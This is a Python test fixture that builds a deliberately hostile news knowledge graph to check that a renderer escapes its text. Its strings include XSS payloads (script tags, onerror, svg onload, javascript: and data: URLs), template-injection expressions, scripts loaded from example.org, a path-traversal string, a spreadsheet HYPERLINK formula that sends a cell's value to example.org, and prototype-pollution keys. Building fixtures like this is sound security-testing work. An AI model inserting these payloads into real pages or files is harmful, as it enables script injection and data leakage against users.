"""A graph of which every text tries to become code: names, titles, sentences, IRIs, speakers, publishers, qualifiers.

What runs on a careless page sets `window.__xss`, opens a dialog, loads something from example.org or leaves an element
in the page. Names that JavaScript's objects already have ("__proto__") break tables that are plain objects.
"""

from __future__ import annotations

from news_graphs import Press
from pyoxigraph import Literal, NamedNode, Quad

from kg.graph.terms import term

SCRIPT = "</script><script>window.__xss=1;alert(1)</script>"
IMAGE = '"><img src=x onerror="window.__xss=2;alert(2)"> href='
COMMENT = "<!--<script> ]]> --> <![CDATA["
FRAME = "<iframe srcdoc='<script>parent.__xss=3;parent.alert(3)</script>'></iframe>"
LINK = '<a href="javascript:window.__xss=4">href</a>'
LOADED = "<link rel=stylesheet href=https://example.org/a.css><script src=https://example.org/b.js></script>"
VECTOR = "<svg onload=window.__xss=5><animate onbegin=alert(5)>"
TEMPLATE = "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('window.__xss=6')()}}"
STYLE = "}</style><style>*{display:none}</style> ; background:url(https://example.org/c.png) expression(alert(7))"
TURNED = "gut\u202etug\u2066 \u200f\u200b\u2069 geht\ufeff"
CONTROLS = "a\x00b\x01c\x1bd\x7fe\u2028f\u2029g\x85h"
QUOTES = "' \" ` \\ &lt;b&gt; &amp; \\u003c \\x3c %3Cb%3E"
FORMULA = '=HYPERLINK("https://example.org/"&A1)'
LONG = "Bundesamtsaußenstellenleiter" * 366  # 10 kB without a place to break
PROTO = "__proto__"
OWN = ("constructor", "toString", "hasOwnProperty", "valueOf", "length")

NAMES = {
    '"><script>alert(1)</script>': (SCRIPT, "Company"),
    "b onerror='x' javascript:": (IMAGE, "Person"),
    "<!--<script>": (COMMENT, "Material"),
    "frame?x=<y>#z": (FRAME, "Country"),
    "../../etc/passwd": (LINK, "Product"),
    "{{7*7}}": (TEMPLATE, "Measure"),
    "style}": (STYLE, "City"),
    "turned\u202e": (TURNED, "Region"),
    "controls": (CONTROLS, "Facility"),
    'it\'s "quoted" `here` \\': (QUOTES, "Event"),
    "long": (LONG, "Organization"),
    PROTO: (PROTO, "Chip"),
    "svg": (VECTOR, "Alliance"),
    "formula": (FORMULA, "Person"),
    "loaded": (LOADED, "GovernmentBody"),
} | {name: (name, "Company") for name in OWN}

FOREIGN = (
    "javascript:window.__xss=8",
    "data:text/html,%3Cscript%3Ealert(8)%3C/script%3E",
    "https://example.org/a%22onmouseover=%22alert(8)%22%3E%3Cb%3E%20'",
    "urn:x:__proto__",
)


def hostile() -> Press:
    """Every entity is joined to the next, told by an article of which nothing can be trusted either."""
    press = Press()
    for key, (name, cls) in NAMES.items():
        press.entity(key, name, cls, also=[f"{name} {name[:40]}"])
    press.entity("outlet", f"{VECTOR} Blatt", "MediaOutlet")
    titles = (f"{SCRIPT} href", f"{LINK} href=javascript:alert(9)", LONG[:2000], PROTO)
    for number, (title, url, publisher) in enumerate(
        zip(
            titles,
            ("javascript:window.__xss=9", "data:text/html,<script>alert(9)</script>", " JaVaScRiPt:alert(9)", "//x\n"),
            (IMAGE, PROTO, FRAME, "constructor"),
            strict=True,
        )
    ):
        key = f"javascript:alert({number})<{number}>.txt"
        press.article(key, title, issued=f"2025-0{number + 1}-01", publisher=publisher, url=url)
    articles = list(press._heads)
    keys = list(NAMES)
    for number, (one, two) in enumerate(zip(keys, keys[1:] + keys[:1], strict=True)):
        name, other = NAMES[one][0], NAMES[two][0]
        sentence = " ".join((name[:300], LOADED, "sagt", FRAME, other[:300], STYLE, CONTROLS, TURNED, str(number)))
        press.fact(
            one, "restricts" if number % 2 else "criticizes", two, [(articles[number % len(articles)], sentence)],
            modality=("Asserted", "Planned", "Denied")[number % 3],
            speaker=("", "outlet", PROTO, '"><script>alert(1)</script>')[number % 4],
            said_by=f"{LINK}{TEMPLATE}" if number % 5 == 0 else "",
            qualifiers=[("role", f"</dd>{LOADED}", "words"), ("measure", SCRIPT, "words"), ("topic", PROTO, "words")],
        )  # fmt: skip
    press.raw = _foreign(articles[0])
    return press


def _foreign(source: str) -> list[Quad]:
    """Entities whose IRIs are no addresses, and a statement of a property that the ontology does not know."""
    quads = []

    def add(subject: str, prop: str, value: NamedNode | Literal) -> None:
        quads.append(Quad(NamedNode(subject), term(prop), value))

    for iri in FOREIGN:
        add(iri, "rdf:type", term("kg:Company"))
        add(iri, "skos:prefLabel", Literal(f"{iri} <b>", language="de"))
        add(iri, "owl:sameAs", NamedNode("http://www.wikidata.org/entity/Q1%22onclick=%22alert(1)"))
    article = "javascript:window.__xss=10"
    add(article, "rdf:type", term("kg:Article"))
    add(article, "nif:isString", Literal(f"{IMAGE}{LINK}"))
    add(article, "dcterms:source", Literal(f"{source} 2"))
    add(article, "dcterms:title", Literal(f"{IMAGE} href", language="de"))
    add(article, "schema:url", Literal("javascript:window.__xss=11", datatype=term("xsd:anyURI")))
    for number, (one, two) in enumerate(zip(FOREIGN, FOREIGN[1:] + FOREIGN[:1], strict=True)):
        statement, evidence = f"javascript:statement{number}", f"javascript:evidence{number}"
        add(statement, "rdf:type", term("kg:Statement"))
        add(statement, "rdf:subject", NamedNode(one))
        add(statement, "rdf:predicate", term("kg:restricts"))
        add(statement, "rdf:object", NamedNode(two))
        add(statement, "kg:modality", term("kg:Asserted"))
        add(statement, "kg:status", term("kg:Current"))
        add(statement, "kg:confidence", Literal("0.9", datatype=term("xsd:decimal")))
        add(statement, "prov:wasDerivedFrom", NamedNode(evidence))
        add(evidence, "rdf:type", term("kg:Evidence"))
        add(evidence, "nif:referenceContext", NamedNode(article))
        add(evidence, "nif:anchorOf", Literal(IMAGE, language="de"))
        add(evidence, "nif:beginIndex", Literal(0))
        add(evidence, "nif:endIndex", Literal(len(IMAGE)))
    return quads
